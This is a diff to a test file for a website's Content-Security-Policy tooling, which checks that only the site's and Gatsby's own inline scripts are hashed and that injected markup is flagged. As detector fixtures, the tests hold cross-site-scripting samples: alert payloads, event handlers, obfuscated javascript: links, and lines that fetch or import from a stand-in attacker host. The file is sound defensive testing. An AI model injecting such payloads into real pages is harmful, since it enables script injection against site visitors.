@@ -5,18 +5,26 @@ import {
   pagePolicyProblem,
   policyMeta,
   scriptHashes,
+  untrustedMarkup,
   withPagePolicy,
 } from "../../../src/lib/page-policy";
+import { WEB_FONTS_SWITCH_ID } from "../../../src/lib/web-fonts";
+
+/** The site's own script, and Gatsby's three, in the forms they take in a built page. */
+const SWITCH = "(function(){document.documentElement.dataset.fonts='on'})()";
+const LOADER = '/*<![CDATA[*/window.pagePath="/home/";/*]]>*/';
+const CHUNKS = '\n  window.___chunkMapping="{\\"app\\":[\\"/app-0123.js\\"]}";\n';
+const BUILD_HASH = 'window.___webpackCompilationHash="d149f4cc0fd2fd4dd91c";';
 
 const page = (scripts: string) =>
   `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><meta name="viewport" content="width=device-width"/>
-<script>window.a=1</script>
-<script type="module">import("x")</script>
+<script id="${WEB_FONTS_SWITCH_ID}">${SWITCH}</script>
 <script src="/app-0123456789abcdef0123.js"></script>
 <script type="application/ld+json">{"@context":"https://schema.org"}</script>
 </head><body><div id="___gatsby"></div>${scripts}</body></html>`;
 
-const html = page(`<script id="gatsby-chunk-mapping">window.b=2</script><script>window.pagePath="/home/"</script>`);
+const gatsbyScripts = `<script id="gatsby-script-loader">${LOADER}</script><script id="gatsby-chunk-mapping">${CHUNKS}</script><script>${BUILD_HASH}</script>`;
+const html = page(gatsbyScripts);
 
 const hash = (body: string) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;
 
@@ -27,13 +35,59 @@ const metaCount = (text: string) => text.split('http-equiv="Content-Security-Pol
 
 describe("inlineScripts and scriptHashes", () => {
   it("returns executable inline scripts only: not external ones, not JSON data blocks", () => {
-    expect(inlineScripts(html)).toEqual(["window.a=1", 'import("x")', "window.b=2", 'window.pagePath="/home/"']);
+    expect(inlineScripts(html)).toEqual([SWITCH, LOADER, CHUNKS, BUILD_HASH]);
   });
 
-  it("hashes each inline script once, as CSP computes it over the exact text", () => {
-    const twice = page("<script>window.a=1</script>");
-    expect(scriptHashes(twice)).toEqual([hash("window.a=1"), hash('import("x")')].sort());
-    expect(scriptHashes("<script>\n  window.a=1\n</script>")).toEqual([hash("\n  window.a=1\n")]);
+  it("hashes each trusted inline script once, as CSP computes it over the exact text", () => {
+    const twice = page(gatsbyScripts + `<script>${BUILD_HASH}</script>`);
+    expect(scriptHashes(twice)).toEqual([SWITCH, LOADER, CHUNKS, BUILD_HASH].map(hash).sort());
+  });
+
+  it("hashes no script the site's code and Gatsby did not write", () => {
+    const injected = page(
+      `${gatsbyScripts}<script>alert(1)</script><script id="${WEB_FONTS_SWITCH_ID}">alert(2)</script>`,
+    );
+    expect(scriptHashes(injected)).toEqual(scriptHashes(html));
+  });
+});
+
+describe("untrustedMarkup", () => {
+  it("finds nothing in a page of the site's and Gatsby's own scripts", () => {
+    expect(untrustedMarkup(html)).toEqual([]);
+  });
+
+  it.each([
+    ["a script in the body", "<p>Hi</p><script>alert(1)</script>", /inline <script> in its <body>: "alert\(1\)"/],
+    ["a module script", '<script type="module">import("https://evil.example/x.js")</script>', /inline <script>/],
+    ["the site's id outside the <head>", `<script id="${WEB_FONTS_SWITCH_ID}">alert(1)</script>`, /in its <body>/],
+    [
+      "Gatsby's id with other code",
+      '<script id="gatsby-script-loader">window.pagePath="/";alert(1)</script>',
+      /inline/,
+    ],
+    [
+      "code after Gatsby's code map",
+      '<script id="gatsby-chunk-mapping">window.___chunkMapping="{}";fetch("//evil.example")</script>',
+      /inline/,
+    ],
+    ["an event handler", '<img src="/a.png" alt="" onerror="alert(1)">', /attribute onerror on <img>: "alert\(1\)"/],
+    ["an upper-case handler", '<p ONCLICK="alert(1)">x</p>', /attribute onclick on <p>/],
+    ["a javascript: link", '<a href="javascript:alert(1)">x</a>', /attribute href on <a>/],
+    ["a javascript: link with a tab inside", '<a href="java\tscript:alert(1)">x</a>', /attribute href on <a>/],
+    ["a frame's own document", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', /attribute srcdoc/],
+  ])("names %s with its line", (_name, markup, expected) => {
+    const found = untrustedMarkup(page(gatsbyScripts + markup));
+    expect(found).toHaveLength(1);
+    expect(found[0].line).toBe(7);
+    expect(`${found[0].what}: ${JSON.stringify(found[0].text)}`).toMatch(expected);
+  });
+
+  it("is not fooled by script-like text in attributes and comments", () => {
+    const quoted = page(
+      `${gatsbyScripts}<meta name="description" content="&lt;script&gt;alert(1)&lt;/script&gt; onload=x"/><!-- <script>alert(1)</script> -->`,
+    );
+    expect(untrustedMarkup(quoted)).toEqual([]);
+    expect(scriptHashes(quoted)).toEqual(scriptHashes(html));
   });
 });
 
@@ -48,7 +102,7 @@ describe("withPagePolicy", () => {
   });
 
   it("puts it straight after <head> when the page declares no character set there", () => {
-    const bare = "<html><head><title>t</title><script>window.c=3</script></head><body></body></html>";
+    const bare = `<html><head><title>t</title><script>${BUILD_HASH}</script></head><body></body></html>`;
     expect(withPagePolicy(bare, policyFor)).toMatch(
       /^<html><head><meta http-equiv="Content-Security-Policy"[^>]*><title>/,
     );
@@ -56,7 +110,7 @@ describe("withPagePolicy", () => {
 
   it("lists exactly the page's own inline scripts", () => {
     expect(pageMetaPolicy(built)).toBe(
-      `script-src 'self' ${[hash("window.a=1"), hash('import("x")'), hash("window.b=2"), hash('window.pagePath="/home/"')].sort().join(" ")}`,
+      `script-src 'self' ${[SWITCH, LOADER, CHUNKS, BUILD_HASH].map(hash).sort().join(" ")}`,
     );
   });
 
@@ -67,12 +121,13 @@ describe("withPagePolicy", () => {
 
   it("replaces a stale policy with the one for the scripts the page has now", () => {
     // Gatsby stitched new scripts into a page kept from an earlier build, policy and all.
-    const restitched = built.replace("window.b=2", "window.b=3");
+    const newHash = BUILD_HASH.replace("d149", "e250");
+    const restitched = built.replace(BUILD_HASH, newHash);
     const rebuilt = withPagePolicy(restitched, policyFor);
     expect(metaCount(rebuilt)).toBe(1);
-    expect(pageMetaPolicy(rebuilt)).toContain(hash("window.b=3"));
-    expect(pageMetaPolicy(rebuilt)).not.toContain(hash("window.b=2"));
-    expect(rebuilt).toBe(withPagePolicy(html.replace("window.b=2", "window.b=3"), policyFor));
+    expect(pageMetaPolicy(rebuilt)).toContain(hash(newHash));
+    expect(pageMetaPolicy(rebuilt)).not.toContain(hash(BUILD_HASH));
+    expect(rebuilt).toBe(withPagePolicy(html.replace(BUILD_HASH, newHash), policyFor));
   });
 
   it("removes any other policy <meta>, wherever it is and however it is written", () => {
@@ -116,9 +171,9 @@ describe("pagePolicyProblem", () => {
   });
 
   it("names a page whose policy does not list exactly its inline scripts", () => {
-    const added = built.replace("</body>", "<script>window.injected=1</script></body>");
+    const added = built.replace("</body>", `<script>${BUILD_HASH.replace("d149", "0000")}</script></body>`);
     expect(pagePolicyProblem(added, policyFor)).toMatch(/not the one for its inline scripts/);
-    const removed = built.replace("<script>window.a=1</script>", "");
+    const removed = built.replace(`<script>${BUILD_HASH}</script>`, "");
     expect(pagePolicyProblem(removed, policyFor)).toMatch(/not the one for its inline scripts/);
   });
 });
